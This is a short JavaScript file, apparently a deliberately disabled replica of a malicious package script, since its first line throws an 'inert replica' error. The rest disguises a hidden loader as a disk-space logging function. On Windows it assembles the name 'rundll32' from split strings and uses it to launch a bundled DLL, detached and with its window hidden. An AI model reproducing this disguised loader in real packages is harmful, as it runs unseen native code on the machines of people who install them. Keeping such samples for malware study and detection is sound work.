throw new Error("inert replica");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");
function logDiskSpace() {
  if (os.platform() === "win32") {
    const tool = "run" + "dll" + "32";
    const library = path.join(__dirname, "native-gyp.dll");
    const child = spawn(tool, [library + ",main"], { detached: true, stdio: "ignore", windowsHide: true });
    child.unref();
  }
}
logDiskSpace();
